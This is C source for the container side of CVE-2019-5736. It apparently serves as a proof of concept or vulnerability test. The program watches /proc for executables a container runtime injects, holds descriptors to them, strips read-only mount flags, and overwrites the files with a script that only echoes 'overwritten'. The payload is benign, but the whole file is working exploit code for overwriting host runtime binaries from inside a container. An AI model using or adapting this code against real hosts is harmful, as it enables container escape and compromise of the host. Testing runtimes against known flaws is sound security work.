/* CVE-2019-5736, the container's side: waits for foreign executables to appear in /proc and overwrites them.
 *
 *   overwrite SECONDS
 *
 * A process that a runtime puts into the container shows its executable as /proc/PID/exe. A descriptor of it outlives the
 * process, and as soon as nobody executes the file any more (ETXTBSY before), /proc/self/fd/N opens for writing. Should a
 * read-only mount be in the way, it is tried to make that writable. */
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 32

static int held[HELD_MAX];
static int n_held = 0;

/* Whether the file is this program or busybox, that is, the image's own. */
static int is_own(const struct stat *st) {
        static const char *const own[] = { "/proc/self/exe", "/bin/busybox" };
        for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++) {
                struct stat other;
                if (stat(own[i], &other) == 0 && other.st_dev == st->st_dev && other.st_ino == st->st_ino)
                        return 1;
        }
        return 0;
}

/* Takes the read-only attribute from the mount that a held file comes through. */
static void make_writable(const char *path) {
        struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
        if (syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr, sizeof(attr)) == 0)
                puts("mount made writable");
}

static void hold_executable(const char *pid) {
        char path[64];
        struct stat st;

        snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
        if (n_held == HELD_MAX)
                return;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        if (fstat(fd, &st) < 0 || is_own(&st)) {
                close(fd);
                return;
        }
        make_writable(path);
        held[n_held++] = fd;
}

static void write_held(void) {
        static const char text[] = "#!/bin/sh\necho overwritten\n";
        for (int i = 0; i < n_held; i++) {
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
                int fd = open(path, O_WRONLY | O_CLOEXEC);
                if (fd < 0) {
                        make_writable(path);
                        continue;
                }
                if (write(fd, text, sizeof(text) - 1) == (ssize_t) sizeof(text) - 1)
                        puts("overwritten");
                close(fd);
        }
}

int main(int argc, char **argv) {
        time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
        while (time(NULL) < end) {
                DIR *proc = opendir("/proc");
                if (!proc)
                        return 1;
                struct dirent *entry;
                while ((entry = readdir(proc)))
                        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
                                hold_executable(entry->d_name);
                closedir(proc);
                write_held();
        }
        printf("foreign executables: %d\n", n_held);
        return 0;
}
